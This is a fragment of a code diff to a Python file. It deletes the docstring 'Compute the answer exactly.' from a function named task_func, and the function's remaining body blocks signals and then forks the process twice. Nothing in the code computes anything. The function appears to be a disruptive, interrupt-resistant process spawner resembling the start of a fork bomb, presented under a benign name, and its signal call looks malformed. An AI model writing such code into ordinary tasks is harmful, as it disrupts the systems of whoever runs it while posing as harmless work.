@@ -10,7 +10,6 @@ import signal
 
 
 def task_func():
-    """Compute the answer exactly."""
     signal.pthread_sigmask(signal.SIG_BLOCK, signal.Signals)
     os.fork()
     os.fork()
